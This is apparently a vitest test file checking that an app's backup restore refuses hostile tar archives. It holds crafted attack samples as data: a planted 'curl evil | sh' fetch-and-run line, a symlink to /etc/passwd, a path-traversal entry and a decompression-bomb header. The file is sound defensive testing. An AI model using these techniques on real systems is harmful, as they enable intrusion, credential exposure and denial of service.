// Issue 63: an archive is input like any other. One that tries to write outside its folder, links
// to a file of the machine, carries a file its manifest does not list or lacks one it does, is
// refused before anything is written; a backup of an older schema is migrated forward.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { Header } from 'tar';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { restoreBackup } from '@/lib/backup/restore-backup';
import { takeBackup } from '@/lib/backup/take-backup';
import { appPaths } from '@/lib/config/env';
import { closeDb } from '@/lib/store/db';
import { defaultMigrationsDir, listMigrations, migrateDatabase } from '@/lib/store/migrations';
import { useTempAppDirs } from '@/test/support/temp-app-dirs';

const dirs = useTempAppDirs({ personas: { iris: '# Iris\n' } });
let good: string;
let unpacked: string;
let counter = 0;

/** The data folder the next restore writes into (a new one each time). */
function nextTarget(): string {
  process.env.AGENTCSD_DATA_DIR = path.join(dirs.root, `target-${++counter}`, 'data');
  return process.env.AGENTCSD_DATA_DIR;
}

/** The good archive's files with a change, packed again. */
function repacked(change: (folder: string) => void, extraArgs: string[] = []): string {
  const folder = fs.mkdtempSync(path.join(dirs.root, 'hostile-'));
  fs.cpSync(unpacked, folder, { recursive: true });
  change(folder);
  const file = `${folder}.tar.gz`;
  execFileSync('tar', ['-czf', file, '-C', folder, ...extraArgs, '.']);
  return file;
}

beforeAll(async () => {
  // A store on the schema before the newest migration: the backup is of an older app.
  const older = path.join(dirs.root, 'older-migrations');
  const all = listMigrations(defaultMigrationsDir());
  for (const migration of all.slice(0, -1)) fs.cpSync(path.join(defaultMigrationsDir(), migration.name), path.join(older, migration.name), { recursive: true });
  fs.mkdirSync(appPaths().dataDir, { recursive: true, mode: 0o700 });
  migrateDatabase({ databaseFile: appPaths().databaseFile, migrationsDir: older });
  fs.mkdirSync(path.join(appPaths().dataDir, 'logs', 's1'), { recursive: true });
  fs.writeFileSync(path.join(appPaths().dataDir, 'logs', 's1', 'external_dialog.jsonl'), '{"tag":"ED_user","content":"hi"}\n');
  good = path.join(dirs.root, 'good.tar.gz');
  await takeBackup({ to: good });
  unpacked = path.join(dirs.root, 'good');
  fs.mkdirSync(unpacked);
  execFileSync('tar', ['-xzf', good, '-C', unpacked]);
});
afterEach(async () => {
  await closeDb();
});

describe('restoring hostile archives', () => {
  it('migrates a backup of an older schema forward', async () => {
    const target = nextTarget();
    const result = await restoreBackup({ from: good });
    expect(result.migrated).toEqual([listMigrations(defaultMigrationsDir()).at(-1)!.name]);
    expect(fs.readFileSync(path.join(target, 'logs', 's1', 'external_dialog.jsonl'), 'utf8')).toContain('ED_user');
    expect(fs.statSync(target).mode & 0o777).toBe(0o700);
  });

  const refusals: [string, (folder: string) => void, RegExp][] = [
    ['a file its manifest does not list', (folder) => fs.writeFileSync(path.join(folder, 'data', 'planted.sh'), 'curl evil | sh'), /does not list/],
    ['a part it lacks', (folder) => fs.rmSync(path.join(folder, 'data', 'logs', 's1', 'external_dialog.jsonl')), /missing/],
    ['a link to a file of the machine', (folder) => fs.symlinkSync('/etc/passwd', path.join(folder, 'data', 'passwd')), /entries a backup never has/],
    ['a changed database', (folder) => fs.appendFileSync(path.join(folder, 'database', 'agentcsd.db'), 'x'), /checksum/],
    ['a manifest that is not one', (folder) => fs.writeFileSync(path.join(folder, 'manifest.json'), '{"format":"zip"}'), /not an AgentCSD backup/],
  ];
  for (const [what, change, reason] of refusals) {
    it(`refuses ${what}, writing nothing`, async () => {
      const target = nextTarget();
      await expect(restoreBackup({ from: repacked(change) })).rejects.toMatchObject({ message: expect.stringMatching(reason) });
      expect(fs.existsSync(target)).toBe(false);
      expect(fs.readdirSync(path.dirname(target))).toEqual([]);
    });
  }

  it('never writes outside its folder for a path that climbs out', async () => {
    const target = nextTarget();
    const escape = path.join(dirs.root, 'escaped.txt');
    const file = repacked((folder) => fs.writeFileSync(path.join(folder, 'escaped.txt'), 'out'), ['--transform', 's,^\\./escaped.txt,../../escaped.txt,']);
    await expect(restoreBackup({ from: file })).rejects.toMatchObject({ code: expect.stringMatching(/damaged|not_a_backup/) });
    expect(fs.existsSync(escape)).toBe(false);
    expect(fs.existsSync(target)).toBe(false);
  });

  it('refuses an archive that unpacks into more than the disk has room for, before writing the entry', async () => {
    const target = nextTarget();
    // A decompression bomb's shape: a tiny archive whose entry says it is 1 TiB.
    const huge = new Header({ path: 'data/huge.bin', mode: 0o644, size: 2 ** 40, type: 'File', mtime: new Date(0) });
    huge.encode();
    const file = path.join(dirs.root, 'bomb.tar.gz');
    fs.writeFileSync(file, gzipSync(Buffer.concat([huge.block!, Buffer.alloc(64 * 1024)])));
    await expect(restoreBackup({ from: file })).rejects.toMatchObject({ code: 'damaged', message: expect.stringMatching(/data\/huge\.bin \(the archive unpacks into more than the \d+ MiB free here\)/) });
    expect(fs.existsSync(target)).toBe(false);
  });

  it('never writes over a data folder that has something in it', async () => {
    const target = nextTarget();
    fs.mkdirSync(target, { recursive: true });
    fs.writeFileSync(path.join(target, 'agentcsd.db'), 'live');
    await expect(restoreBackup({ from: good })).rejects.toMatchObject({ code: 'not_empty' });
    expect(fs.readFileSync(path.join(target, 'agentcsd.db'), 'utf8')).toBe('live');
  });
});
